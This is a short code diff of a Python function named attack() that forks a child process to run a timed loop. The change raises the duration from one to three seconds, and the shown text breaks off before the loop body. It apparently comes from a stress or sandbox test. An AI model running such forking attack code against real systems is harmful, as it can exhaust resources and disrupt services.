@@ -1,7 +1,7 @@
 def attack():
     import os, time
 
-    end = time.monotonic() + 1
+    end = time.monotonic() + 3
     if os.fork() == 0:
         while time.monotonic() < end:
             try:
